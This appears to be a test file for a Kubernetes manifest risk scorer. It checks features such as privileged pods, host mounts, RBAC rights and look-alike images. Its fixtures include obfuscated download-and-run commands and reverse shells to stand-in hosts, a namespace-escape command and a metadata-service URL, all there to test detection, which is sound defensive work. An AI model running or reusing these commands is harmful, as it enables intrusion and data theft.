import fc from 'fast-check'
import t from 'tap'
import { canonicalObject } from '../../../../src/canonical.js'
import { isJsonObject, parseJson, type Json, type JsonObject } from '../../../../src/json.js'
import {
  CHANGE_FEATURES,
  changeFeatures,
  OBJECT_FEATURES,
  objectFeatures,
  type Feature,
  type FeatureVector,
} from '../../../../src/risk/features.js'
import { weigh } from '../../../../src/risk/features/prior.js'

t.setTimeout(240_000)

function canonical(value: unknown): JsonObject {
  const object = parseJson(JSON.stringify(value))
  return canonicalObject(isJsonObject(object) ? object : {})
}

function workload(spec: Record<string, unknown>, kind = 'Deployment'): Record<string, unknown> {
  return { apiVersion: 'apps/v1', kind, metadata: { name: 'web', namespace: 'shop' }, spec: { template: { spec } } }
}

/** What sets a vector apart from an empty one: values and places by name, without what follows from the others. */
function found(features: readonly Feature[], vector: FeatureVector): Record<string, readonly [number, ...string[]]> {
  return Object.fromEntries(
    features.flatMap(({ name, group }, column) => {
      const value = vector.values[column] ?? 0
      const isLeftOut =
        group === 'prior' || group === 'added' || group === 'kind' || /\.(?:not_|may_escalate|has_token)/.test(name)
      return value === 0 || isLeftOut ? [] : [[name, [value, ...vector.paths(column)] as const]]
    }),
  )
}

const CONTAINER = '/spec/template/spec/containers/0'
const objects: Record<string, { object: unknown; expected: Record<string, readonly [number, ...string[]]> }> = {
  'an ordinary Deployment has nothing': {
    object: workload({ containers: [{ name: 'web', image: 'ghcr.io/shop/web@sha256:ab', args: ['--port=80'] }] }),
    expected: {},
  },
  'a privileged container with the process space of the node': {
    object: workload({
      hostPID: true,
      containers: [
        { name: 'web', image: 'quay.io/a/b:1' },
        { name: 'two', image: 'quay.io/a/b:1', securityContext: { privileged: true } },
      ],
    }),
    expected: {
      'pod.privileged': [1, '/spec/template/spec/containers/1/securityContext/privileged'],
      'pod.host_pid': [1, '/spec/template/spec/hostPID'],
      'pod.host_namespaces': [1, '/spec/template/spec/hostPID'],
      'pod.node_stranger': [4, '/spec/template/spec/hostPID'],
    },
  },
  'host paths by what they give, dots and doubled slashes followed': {
    object: workload({
      containers: [
        {
          name: 'a',
          image: 'quay.io/a/b:1',
          volumeMounts: [
            { name: 'logs', mountPath: '/l', readOnly: true },
            { name: 'sock', mountPath: '/s' },
          ],
        },
      ],
      volumes: [
        { name: 'logs', hostPath: { path: '/var/log' } },
        { name: 'sock', hostPath: { path: '/var//lib/../run/docker.sock' } },
      ],
    }),
    expected: {
      'pod.host_path_socket': [1, '/spec/template/spec/volumes/1/hostPath/path'],
      'pod.host_path_system': [1, '/spec/template/spec/volumes/0/hostPath/path'],
      'pod.host_path_grade': [
        5,
        '/spec/template/spec/volumes/0/hostPath/path',
        '/spec/template/spec/volumes/1/hostPath/path',
      ],
      'pod.host_path_writable': [5, `${CONTAINER}/volumeMounts/1`],
      'pod.node_stranger': [5, `${CONTAINER}/volumeMounts/1`],
    },
  },
  'a hidden script: quotes in the words, base64 around it': {
    object: workload({
      containers: [
        { name: 'a', image: 'quay.io/a/b:1', command: ['sh', '-c', `c""url http://x.example/a | b''ash`] },
        {
          name: 'b',
          image: 'quay.io/a/b:1',
          args: [Buffer.from('bash -i >& /dev/tcp/x.example/443 0>&1').toString('base64')],
        },
      ],
    }),
    expected: {
      'command.reverse_shell': [1, '/spec/template/spec/containers/1/args'],
      'command.download_run': [1, `${CONTAINER}/command`],
      'command.download': [1, `${CONTAINER}/command`],
      'command.shell': [1, `${CONTAINER}/command`],
      'command.grade': [4, `${CONTAINER}/command`, '/spec/template/spec/containers/1/args'],
    },
  },
  'a script that only lies in a ConfigMap': {
    object: {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'scripts' },
      data: { 'a/b.sh': 'nsenter -t 1 -m' },
    },
    expected: { 'file.escape': [1, '/data/a~1b.sh'], 'file.grade': [3, '/data/a~1b.sh'] },
  },
  'a pod spec inside a kind that nobody knows': {
    object: {
      apiVersion: 'example.org/v1',
      kind: 'Fleet',
      spec: { groups: [{ pod: { hostIPC: true, containers: [{ name: 'a', image: '198.51.100.7:5000/a' }] } }] },
    },
    expected: {
      'pod.host_ipc': [1, '/spec/groups/0/pod/hostIPC'],
      'pod.host_namespaces': [1, '/spec/groups/0/pod/hostIPC'],
      'pod.node_stranger': [3, '/spec/groups/0/pod/hostIPC'],
      'image.address': [1, '/spec/groups/0/pod/containers/0/image'],
      'image.unknown_registry': [1, '/spec/groups/0/pod/containers/0/image'],
      'image.moving_tag': [1, '/spec/groups/0/pod/containers/0/image'],
    },
  },
  'a registry that looks like a known one': {
    object: workload({ containers: [{ name: 'a', image: 'quya.io/a/b:1' }] }),
    expected: {
      'image.unknown_registry': [1, `${CONTAINER}/image`],
      'image.look_alike': [1, `${CONTAINER}/image`],
    },
  },
  'a role that reads secrets and enters pods': {
    object: {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'Role',
      metadata: { name: 'r' },
      rules: [
        { apiGroups: [''], resources: ['secrets'], resourceNames: ['one'], verbs: ['get'] },
        { apiGroups: [''], resources: ['*/exec', 'secrets'], verbs: ['create', 'get'] },
      ],
    },
    expected: {
      'rbac.secrets_read': [1, '/rules/1'],
      'rbac.secrets_write': [1, '/rules/1'],
      'rbac.secrets_named': [1, '/rules/0'],
      'rbac.exec': [1, '/rules/1'],
      'rbac.grade': [3, '/rules/0', '/rules/1'],
    },
  },
  'cluster-admin for everybody': {
    object: {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: 'b' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'system:anonymous' }],
    },
    expected: {
      'binding.cluster_admin': [1, '/roleRef/name'],
      'binding.admin': [4, '/roleRef/name'],
      'binding.anonymous': [1, '/subjects/0'],
      'binding.admin_to_user': [1, '/subjects/0'],
      'binding.cluster_wide': [1, '/kind'],
      'binding.grade': [4.5, '/roleRef/name', '/subjects/0'],
    },
  },
  'a Service that takes traffic for the metadata service': {
    object: {
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: 's' },
      spec: { selector: { app: 'x' }, ports: [{ port: 6379 }], externalIPs: ['169.254.169.254'] },
    },
    expected: {
      'network.external_address': [1, '/spec/externalIPs/0'],
      'network.admin_port': [1, '/spec/ports/0/port'],
      'network.admin_port_exposed': [1, '/spec/ports/0/port'],
    },
  },
  'a NetworkPolicy with an empty rule': {
    object: {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'NetworkPolicy',
      metadata: { name: 'n' },
      spec: { podSelector: {}, policyTypes: ['Ingress'], ingress: [{}] },
    },
    expected: {
      'network.policy_open_in': [1, '/spec/ingress'],
      'network.policy_open_all_pods': [1, '/spec/podSelector'],
    },
  },
  'a webhook that sends secrets to a bare address': {
    object: {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'MutatingWebhookConfiguration',
      metadata: { name: 'w' },
      webhooks: [
        {
          name: 'a.example.org',
          clientConfig: { url: 'https://203.0.113.9/x' },
          rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['secrets'] }],
        },
      ],
    },
    expected: {
      'control.webhook_url': [1, '/webhooks/0/clientConfig/url'],
      'control.webhook_address': [1, '/webhooks/0/clientConfig/url'],
      'control.webhook_mutates': [1, '/kind'],
      'control.webhook_secrets': [1, '/webhooks/0/rules/0/resources'],
      'control.webhook_url_secrets': [1, '/webhooks/0/rules/0/resources'],
    },
  },
  'the value of a Secret is never looked at': {
    object: {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 's' },
      stringData: { run: 'bash -i >& /dev/tcp/203.0.113.9/443' },
    },
    expected: {},
  },
}
t.test('an object has these features, with these places', t => {
  for (const [name, { object, expected }] of Object.entries(objects)) {
    t.test(name, t => {
      const kept = Object.fromEntries(
        Object.entries(found(OBJECT_FEATURES, objectFeatures(canonical(object)))).filter(
          ([key]) => !['image.user_repository', 'rbac.cluster_wide'].includes(key),
        ),
      )
      t.strictSame(kept, expected)
      t.end()
    })
  }
  t.end()
})

/** The value of a feature of a workload. */
function valueOf(name: string, spec: Record<string, unknown>, kind = 'DaemonSet'): number {
  return (
    objectFeatures(canonical(workload(spec, kind))).values[OBJECT_FEATURES.findIndex(each => each.name === name)] ?? 0
  )
}

t.test('the node is for software of nodes', t => {
  const privileged = { securityContext: { privileged: true } }
  const cases: Record<string, readonly [image: string, stranger: number, general: number]> = {
    'a network plugin': ['docker.io/calico/node:v3.30', 0, 0],
    'a driver for storage': ['registry.k8s.io/sig-storage/nfsplugin-csi:v4', 0, 0],
    'an exporter': ['quay.io/prometheus/node-exporter', 0, 0],
    'a web server': ['nginx', 4, 4],
    'a bare system of a registry': ['public.ecr.aws/docker/library/alpine:3', 4, 4],
    'an application': ['ghcr.io/acme/shop:1', 4, 0],
    'a registry that is named like a plugin': ['calico.example.net/acme/shop:1', 4, 0],
    'a word that only ends like one': ['ghcr.io/acme/shopcsi', 4, 0],
  }
  for (const [name, [image, stranger, general]] of Object.entries(cases)) {
    const pod = { containers: [{ name: 'a', image, ...privileged }] }
    t.strictSame([valueOf('pod.node_stranger', pod), valueOf('pod.node_general', pod)], [stranger, general], name)
  }
  const mounted = (path: string, more: Record<string, unknown> = {}): Record<string, unknown> => ({
    volumes: [{ name: 'v', hostPath: { path } }],
    containers: [{ name: 'a', image: 'ghcr.io/acme/shop', volumeMounts: [{ name: 'v', mountPath: '/v', ...more }] }],
  })
  t.equal(valueOf('pod.node_stranger', mounted('/')), 5)
  t.equal(valueOf('pod.node_stranger', mounted('/', { readOnly: true })), 4, 'reading is less than writing')
  const capable = {
    containers: [{ name: 'a', image: 'acme/shop', securityContext: { capabilities: { add: ['SYS_PTRACE'] } } }],
  }
  t.equal(valueOf('pod.node_stranger', capable), 4)
  const setup = {
    initContainers: [{ name: 'a', image: 'busybox', ...privileged }],
    containers: [{ name: 'b', image: 'acme/shop' }],
  }
  t.strictSame(
    [valueOf('pod.node_setup', setup), valueOf('pod.node_stranger', setup), valueOf('pod.node_general', setup)],
    [4, 0, 0],
    'what runs first is told apart',
  )
  const beside = {
    hostPID: true,
    containers: [
      { name: 'a', image: 'calico/node' },
      { name: 'b', image: 'nginx' },
    ],
  }
  t.equal(valueOf('pod.node_general', beside), 4, 'a plugin beside it makes it no better')
  t.end()
})

t.test('variables that open a cloud, and libraries that are preloaded', t => {
  const names = ['pod.literal_credential', 'pod.cloud_credential', 'pod.preloaded_library', 'pod.loader_variable']
  const cases: Record<string, readonly [name: string, value: string, ...expected: number[]]> = {
    'a key of a cloud': ['AWS_SECRET_ACCESS_KEY', 'redacted-12ab34cd', 1, 1, 0, 0],
    'a token of a code host': ['GITHUB_TOKEN', 'x12345678', 1, 1, 0, 0],
    'a key under any name': ['SETTING', 'AKIAABCDEFGH12345678', 0, 1, 0, 0],
    'where a key is': ['AWS_SECRET_ACCESS_KEY', '/etc/aws/key', 0, 0, 0, 0],
    'a password': ['DB_PASSWORD', 'hunter22', 1, 0, 0, 0],
    'a short name of a password': ['DB_PWD', 'hunter22', 1, 0, 0, 0],
    'a compass': ['COMPASS', 'north-west', 0, 0, 0, 0],
    'another allocator': ['LD_PRELOAD', '/usr/lib/libjemalloc.so.2', 0, 0, 1, 0],
    'a library out of a scratch directory': ['LD_PRELOAD', '/tmp/x.so', 0, 0, 0, 1],
    'a way out of the system directory': ['LD_PRELOAD', '/usr/../tmp/x.so', 0, 0, 0, 1],
    'two libraries': ['LD_PRELOAD', '/usr/lib/a.so:/tmp/x.so', 0, 0, 0, 1],
  }
  for (const [title, [name, value, ...expected]] of Object.entries(cases)) {
    const pod = { containers: [{ name: 'a', image: 'acme/shop', env: [{ name, value }] }] }
    t.strictSame(
      names.map(each => valueOf(each, pod)),
      expected,
      title,
    )
  }
  t.end()
})

t.test('rights that are written down, and accounts that are named oddly', t => {
  const valuesOf = (object: unknown, names: readonly string[]): number[] => {
    const { values } = objectFeatures(canonical(object))
    return names.map(name => values[OBJECT_FEATURES.findIndex(each => each.name === name)] ?? 0)
  }
  const role = (...rules: unknown[]): unknown => ({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRole',
    metadata: { name: 'r' },
    rules,
  })
  const rights = ['rbac.exec', 'rbac.exec_named', 'rbac.core_named', 'rbac.pods_all']
  const rule = (apiGroups: string[], resources: string[], verbs: string[], more = {}): unknown => ({
    ...{ apiGroups, resources, verbs },
    ...more,
  })
  t.strictSame(valuesOf(role(rule([''], ['pods/exec'], ['create'])), rights), [1, 1, 0, 0])
  t.strictSame(valuesOf(role(rule(['*'], ['*'], ['get'])), rights), [1, 0, 0, 0], 'a wildcard names nothing')
  t.strictSame(valuesOf(role(rule([''], ['*'], ['get'])), rights), [1, 0, 1, 0])
  t.strictSame(valuesOf(role(rule(['', '*'], ['*'], ['get'])), rights), [1, 0, 1, 0], 'more groups hide nothing')
  t.strictSame(valuesOf(role(rule([''], ['pods'], ['*'])), rights), [0, 0, 0, 1])
  t.strictSame(valuesOf(role(rule([''], ['pods/exec'], ['create'], { resourceNames: ['a'] })), rights), [0, 0, 0, 0])

  const accounts = ['binding.admin_to_default', 'binding.admin_to_builder', 'binding.admin_to_impostor']
  const binding = (name: string, namespace: string, kind: string, to = 'cluster-admin'): unknown => ({
    ...{ apiVersion: 'rbac.authorization.k8s.io/v1', kind, metadata: { name: 'b', namespace: 'shop' } },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: to },
    subjects: [{ kind: 'ServiceAccount', name, namespace }],
  })
  const inCluster = 'ClusterRoleBinding'
  t.strictSame(valuesOf(binding('default', 'shop', inCluster), accounts), [2, 0, 0])
  t.strictSame(valuesOf(binding('default', 'shop', 'RoleBinding'), accounts), [1, 0, 0], 'less in one namespace')
  t.strictSame(valuesOf(binding('ci-runner', 'shop', inCluster), accounts), [0, 2, 0])
  t.strictSame(valuesOf(binding('kube-controller', 'shop', inCluster), accounts), [0, 0, 2])
  t.strictSame(valuesOf(binding('kube-dns', 'kube-system', inCluster), accounts), [0, 0, 0], 'where it belongs')
  t.strictSame(valuesOf(binding('default', 'shop', inCluster, 'view'), accounts), [0, 0, 0], 'a weak role')

  const opened = ['network.dashboard_exposed', 'network.console_exposed']
  const service = (app: string, type: string): unknown => ({
    ...{ apiVersion: 'v1', kind: 'Service', metadata: { name: 's' } },
    spec: { type, selector: { app }, ports: [{ port: 80 }] },
  })
  t.strictSame(valuesOf(service('kubernetes-dashboard', 'NodePort'), opened), [1, 1])
  t.strictSame(valuesOf(service('prometheus', 'NodePort'), opened), [1, 0])
  t.strictSame(valuesOf(service('kubernetes-dashboard', 'ClusterIP'), opened), [0, 0])

  const config = (data: Record<string, string>): unknown => ({
    ...{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'c' } },
    data,
  })
  const kept = ['control.config_credential', 'file.key']
  t.strictSame(valuesOf(config({ pwd: 'cGFzc3dvcmQ=' }), kept), [1, 0])
  t.strictSame(valuesOf(config({ 'db.password': '${PASSWORD}' }), kept), [0, 0])
  t.strictSame(valuesOf(config({ url: 'AKIAABCDEFGH12345678' }), kept), [0, 1])

  const open = (kind: string, spec: unknown): unknown => ({ apiVersion: 'security.istio.io/v1', kind, spec })
  const mesh = ['network.mesh_open']
  t.strictSame(valuesOf(open('AuthorizationPolicy', { rules: [{}] }), mesh), [2])
  t.strictSame(valuesOf(open('AuthorizationPolicy', { rules: [{}], selector: {} }), mesh), [1])
  const named = (externalName: string): unknown => ({
    ...{ apiVersion: 'v1', kind: 'Service', metadata: { name: 's' } },
    spec: { type: 'ExternalName', externalName },
  })
  const names = ['metadata.google.internal', 'kubernetes.default.svc', 'x.ngrok.io', 'db.example.org']
  t.strictSame(
    names.flatMap(name => valuesOf(named(name), ['network.external_name'])),
    [3, 2, 2, 1],
  )
  t.end()
})

t.test('white space hides nothing and does not slow anything down', t => {
  const gap = '\n'.repeat(200_000)
  const object = canonical(
    workload({
      containers: [{ name: 'a', image: 'quay.io/a/b:1', args: [`cd${' '.repeat(500)}/tmp;${gap}wget x${gap}; ./x`] }],
    }),
  )
  t.strictSame(Object.keys(found(OBJECT_FEATURES, objectFeatures(object))), [
    'command.scratch_program',
    'command.grade',
  ])
  t.end()
})

t.test('the environment says which variable it is', t => {
  const env = [
    { name: 'ONE', value: 'http://web.shop.svc/path' },
    { name: 'TWO', value: 'http://169.254.169.254/latest' },
  ]
  const object = canonical(workload({ containers: [{ name: 'a', image: 'quay.io/a/b:1', env }] }))
  t.strictSame(found(OBJECT_FEATURES, objectFeatures(object)), {
    'command.metadata': [1, `${CONTAINER}/env/1/value`],
    'command.grade': [2.5, `${CONTAINER}/env/1/value`],
  })
  t.end()
})

t.test('a change has what is new, what is more and what only a comparison shows', t => {
  const before = workload({
    containers: [
      {
        name: 'web',
        image: 'quay.io/shop/web:1',
        securityContext: { runAsNonRoot: true },
        resources: { limits: { cpu: 1 } },
      },
    ],
  })
  const after = workload({
    serviceAccountName: 'cluster-admin',
    containers: [
      { name: 'web', image: 'ttl.sh/web', command: ['sh', '-c', 'true'], securityContext: { privileged: true } },
    ],
  })
  t.strictSame(found(CHANGE_FEATURES, changeFeatures(canonical(before), canonical(before))), {})
  t.strictSame(found(CHANGE_FEATURES, changeFeatures(canonical(before), canonical(after))), {
    'new.pod.privileged': [1, `${CONTAINER}/securityContext/privileged`],
    'new.pod.node_stranger': [4, `${CONTAINER}/securityContext/privileged`],
    'new.pod.admin_account': [2, '/spec/template/spec/serviceAccountName'],
    'new.command.shell': [1, `${CONTAINER}/command`],
    'new.image.odd_registry': [1, `${CONTAINER}/image`],
    'new.image.moving_tag': [1, `${CONTAINER}/image`],
    'new.image.unknown_registry': [1, `${CONTAINER}/image`],
    'delta.pod.privileged': [1, `${CONTAINER}/securityContext/privileged`],
    'delta.pod.node_stranger': [4, `${CONTAINER}/securityContext/privileged`],
    'delta.pod.admin_account': [2, '/spec/template/spec/serviceAccountName'],
    'delta.command.shell': [1, `${CONTAINER}/command`],
    'delta.image.odd_registry': [1, `${CONTAINER}/image`],
    'delta.image.moving_tag': [1, `${CONTAINER}/image`],
    'delta.image.unknown_registry': [1, `${CONTAINER}/image`],
    'change.image_registry': [1, `${CONTAINER}/image`],
    'change.image_owner': [1, `${CONTAINER}/image`],
    'change.image_impostor': [1, `${CONTAINER}/image`],
    'change.image_impostor_moving': [1, `${CONTAINER}/image`],
    'change.pin_dropped': [1, `${CONTAINER}/image`],
    'change.command': [1, `${CONTAINER}/command`],
    'change.shell': [1, `${CONTAINER}/command`],
    'change.account': [1, '/spec/template/spec/serviceAccountName'],
    'change.account_admin': [1, '/spec/template/spec/serviceAccountName'],
    'change.privileged': [1, `${CONTAINER}/securityContext/privileged`],
    'change.hardening_dropped': [1, `${CONTAINER}/securityContext/runAsNonRoot`],
  })
  t.end()
})

t.test('an image of the same name is an impostor where anybody can publish', t => {
  const cases = {
    'another account of a hub': { before: 'bitnami/redis:7.2', after: 'docker.io/x7k2/redis:7.2', impostors: 1 },
    'a name with something added': { before: 'quay.io/shop/web:1', after: 'ttl.sh/web-x7k2:1h', impostors: 1 },
    'the same image written in full': { before: 'redis:7', after: 'docker.io/library/redis:7', impostors: 0 },
    'the registry of Kubernetes moves': {
      before: 'k8s.gcr.io/pause:3',
      after: 'registry.k8s.io/pause:3',
      impostors: 0,
    },
    'another image': { before: 'quay.io/shop/web:1', after: 'quay.io/other/proxy:1', impostors: 0 },
    'the same owner in another registry': { before: 'docker.io/shop/web:1', after: 'quay.io/shop/web:1', impostors: 0 },
    'no owner at all': { before: 'redis:7', after: '198.51.100.7:5000/redis', impostors: 1 },
    'a reference to source that is built': { before: 'web:1', after: 'ko://example.org/shop/web', impostors: 0 },
  }
  const column = CHANGE_FEATURES.findIndex(({ name }) => name === 'change.image_impostor')
  for (const [name, { before, after, impostors }] of Object.entries(cases)) {
    const [old, now] = [before, after].map(image => canonical(workload({ containers: [{ name: 'a', image }] })))
    t.equal(changeFeatures(old ?? {}, now ?? {}).values[column], impostors, name)
  }
  t.end()
})

t.test('an account is told from a known project that it is named nearly like', t => {
  const column = OBJECT_FEATURES.findIndex(({ name }) => name === 'image.look_alike_owner')
  const cases = {
    'kubernetesio/pause': 0,
    'kuberntesio/pause': 1,
    'k8s-gcr/pause-amd64': 1,
    'grafanaa/grafana': 1,
    'grafana/grafana': 0,
    'quay.io/grafanaa/grafana': 0,
    'myshop/web': 0,
    'k8s.gcr.io/pause': 0,
  }
  for (const [image, expected] of Object.entries(cases)) {
    t.equal(objectFeatures(canonical(workload({ containers: [{ image }] }))).values[column], expected, image)
  }
  t.end()
})

t.test('an existing container that may do more, a new mount and a new right are told by their danger', t => {
  const pod = (context: unknown, path: string, more: unknown[] = []): unknown =>
    workload({
      hostNetwork: more.length > 0,
      containers: [{ name: 'a', image: 'quay.io/a/b:1', securityContext: context }, ...more],
      volumes: [{ name: 'v', hostPath: { path } }],
    })
  const role = (...rules: unknown[]): unknown => ({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'Role',
    metadata: { name: 'r' },
    rules: rules.map(resources => ({ apiGroups: [''], resources, verbs: ['get'] })),
  })
  const image = { name: 'a', image: 'quay.io/a/b:1' }
  const cases: Record<string, { before: unknown; after: unknown; expected: Record<string, number> }> = {
    'other capabilities, root and a file of the node': {
      before: pod({ capabilities: { add: ['CAP_CHOWN'] } }, '/data/a'),
      after: pod({ capabilities: { add: ['CAP_CHOWN', 'SYS_ADMIN'] }, runAsUser: 0 }, '/etc/kubernetes'),
      expected: { host_path: 1, host_path_grade: 4, capability: 4, root_user: 1 },
    },
    'a privileged container that is new': {
      before: pod({}, '/data/a'),
      after: pod({}, '/data/a', [{ name: 'b', image: 'quay.io/a/b:1', securityContext: { privileged: true } }]),
      expected: { container: 1, node_namespace: 1 },
    },
    'a capability beside a worse one that was there': {
      before: pod({ capabilities: { add: ['SYS_ADMIN'] } }, '/data/a'),
      after: pod({ capabilities: { add: ['SYS_ADMIN', 'CHOWN'] } }, '/data/a'),
      expected: { capability: 2 },
    },
    'rules in another order, and one of them in parts': {
      before: role(['secrets', 'pods'], ['services']),
      after: role(['services'], ['pods'], ['secrets']),
      expected: { rights: 2 },
    },
    'a right that moves to another rule beside a new one': {
      before: role(['secrets'], ['services']),
      after: role(['services'], ['secrets'], ['pods/exec']),
      expected: { rights: 1, right_grade: 3 },
    },
    'an image where there was none': {
      before: workload({ containers: [{ name: 'a' }] }),
      after: workload({ containers: [image] }),
      expected: { image_registry: 1, image_set: 1 },
    },
  }
  for (const [name, { before, after, expected }] of Object.entries(cases)) {
    const vector = changeFeatures(canonical(before), canonical(after))
    const values = CHANGE_FEATURES.flatMap(({ name: each }, column) => {
      const value = vector.values[column] ?? 0
      return each.startsWith('change.') && value > 0 ? [[each.slice('change.'.length), value] as const] : []
    })
    t.strictSame(Object.fromEntries(values), expected, name)
  }
  t.end()
})

t.test('the prior weighs what benign objects never have more, and one danger told twice less than two', t => {
  const column = (name: string): number => OBJECT_FEATURES.findIndex(each => each.name === name)
  const priorOf = (spec: Record<string, unknown>): Record<string, number> => {
    const { values } = objectFeatures(canonical(workload(spec)))
    return Object.fromEntries(['sum', 'max', 'groups'].map(each => [each, values[column(`prior.${each}`)] ?? 0]))
  }
  const container = { name: 'a', image: 'quay.io/a/b@sha256:ab' }
  const [common, unknown] = [
    priorOf({ hostNetwork: true, containers: [container] }),
    priorOf({ containers: [{ ...container, securityContext: { procMount: 'Unmasked' } }] }),
  ]
  t.ok((common.sum ?? 0) < 1 && (unknown.sum ?? 0) === 4, JSON.stringify([common, unknown]))
  t.equal(unknown.max, 4, 'twice its weight')
  const evidence = (...found: readonly (readonly [name: string, value: number])[]): ReturnType<typeof weigh> =>
    weigh(
      found.map(([name, value]) => ({ name, value, spec: { unit: 'count', weight: 1, text: 'is so' } })),
      'object',
    )
  const nothing = { sum: 0, max: 0, groups: 0, strongest: null }
  t.strictSame(evidence(), nothing)
  t.strictSame(evidence(['a.one', -1]), nothing, 'what is less in the new object')
  t.strictSame(evidence(['a.one', 1], ['a.two', 1]), { sum: 3, max: 2, groups: 1, strongest: 'a.one' })
  t.strictSame(evidence(['a.one', 1], ['b.two', 1]), { sum: 4, max: 2, groups: 2, strongest: 'a.one' })
  t.strictSame(evidence(['a.one', 9]), { sum: 2.5, max: 2.5, groups: 1, strongest: 'a.one' }, 'a repetition')
  t.end()
})

t.test('an opened NetworkPolicy says that it lost its peers', t => {
  const policy = (ingress: unknown): JsonObject =>
    canonical({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', spec: { podSelector: { a: 'b' }, ingress } })
  t.strictSame(
    found(CHANGE_FEATURES, changeFeatures(policy([{ from: [{ podSelector: { a: 'b' } }] }]), policy([{}]))),
    {
      'new.network.policy_open_in': [1, '/spec/ingress'],
      'delta.network.policy_open_in': [1, '/spec/ingress'],
      'change.peers_dropped': [1, '/spec/ingress'],
    },
  )
  t.end()
})

t.test('the tables are whole', t => {
  for (const features of [OBJECT_FEATURES, CHANGE_FEATURES]) {
    const names = features.map(({ name }) => name)
    t.equal(new Set(names).size, names.length, 'each name once')
    t.strictSame(
      features.filter(({ text, group, name }) => text === '' || !name.includes(`${group}.`)),
      [],
    )
  }
  const empty = { apiVersion: 'example.org/v1', kind: 'None' }
  t.equal(objectFeatures(empty).values.length, OBJECT_FEATURES.length)
  t.equal(changeFeatures(empty, empty).values.length, CHANGE_FEATURES.length)
  t.end()
})

// --- Properties ---

/** What Kubernetes calls its members, so that arbitrary values get where something is read. */
const WORDS = [
  ...[
    'apiVersion',
    'kind',
    'metadata',
    'spec',
    'template',
    'containers',
    'initContainers',
    'volumes',
    'hostPath',
    'path',
  ],
  ...[
    'securityContext',
    'capabilities',
    'add',
    'drop',
    'privileged',
    'sysctls',
    'name',
    'image',
    'command',
    'args',
    'env',
  ],
  ...[
    'value',
    'rules',
    'verbs',
    'resources',
    'apiGroups',
    'subjects',
    'roleRef',
    'webhooks',
    'clientConfig',
    'url',
    'data',
  ],
  ...[
    'ports',
    'port',
    'ingress',
    'from',
    'to',
    'annotations',
    'labels',
    'lifecycle',
    'postStart',
    'exec',
    'source',
    'steps',
  ],
  ...[
    'constructor',
    '__proto__',
    'toString',
    'length',
    'script',
    'tolerations',
    'projected',
    'sources',
    'request',
    'hosts',
  ],
]
const KINDS = [
  ...[
    'Pod',
    'Deployment',
    'CronJob',
    'Role',
    'ClusterRole',
    'RoleBinding',
    'Service',
    'Ingress',
    'NetworkPolicy',
    'ConfigMap',
  ],
  ...[
    'MutatingWebhookConfiguration',
    'APIService',
    'Namespace',
    'CertificateSigningRequest',
    'Application',
    'AppProject',
  ],
  ...[
    'Endpoints',
    'Secret',
    'Policy',
    'PolicyException',
    'constructor',
    'PersistentVolume',
    'VirtualService',
    'Config',
  ],
]
const scalar = fc.oneof(
  fc.constantFrom(true, false, null, 0, 1, -1, 0.1, 1e300),
  fc.string({ maxLength: 12 }),
  fc.constantFrom(
    '*',
    '/',
    '..//',
    'ALL',
    'sh',
    '@',
    ':',
    'a:b@c',
    '[::1]:5000/x',
    'system:masters',
    '$(x)',
    'http://',
    '\\\n',
  ),
)
const { tree } = fc.letrec<{ tree: Json }>(tie => ({
  tree: fc.oneof(
    { maxDepth: 7, withCrossShrink: true },
    scalar,
    fc.array(tie('tree'), { maxLength: 3 }),
    fc.dictionary(fc.constantFrom(...WORDS), tie('tree'), { maxKeys: 6 }),
  ),
}))
const anyObject = fc
  .record({
    apiVersion: fc.constantFrom(
      'v1',
      'apps/v1',
      'rbac.authorization.k8s.io/v1',
      'networking.k8s.io/v1',
      'kyverno.io/v1',
      '',
    ),
    kind: fc.oneof(fc.constantFrom(...KINDS), scalar),
    members: fc.dictionary(fc.constantFrom(...WORDS), tree, { maxKeys: 8 }),
  })
  .map(({ members, apiVersion, kind }) => ({ ...members, apiVersion, kind }))

function isOnGrid(value: number): boolean {
  return Number.isFinite(value) && Number.isInteger(value * 64)
}

t.test('any object has finite features on the grid', t => {
  fc.assert(
    fc.property(anyObject, anyObject, (object, other) => {
      for (const vector of [objectFeatures(object), changeFeatures(other, object)]) {
        vector.values.forEach((value, column) => {
          if (!isOnGrid(value)) throw new Error(`column ${column} is ${value}`)
          vector.paths(column)
        })
      }
    }),
    { numRuns: 1000 },
  )
  t.end()
})
